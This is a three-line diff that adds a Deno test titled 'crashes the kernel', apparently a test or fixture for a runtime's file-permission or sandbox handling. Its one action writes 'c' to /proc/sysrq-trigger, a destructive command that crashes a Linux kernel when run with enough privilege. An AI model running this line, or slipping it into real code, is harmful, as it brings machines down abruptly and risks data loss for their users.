@@ -1,0 +1,3 @@
+Deno.test("crashes the kernel", () => {
+  Deno.writeTextFileSync("/proc/sysrq-trigger", "c");
+});
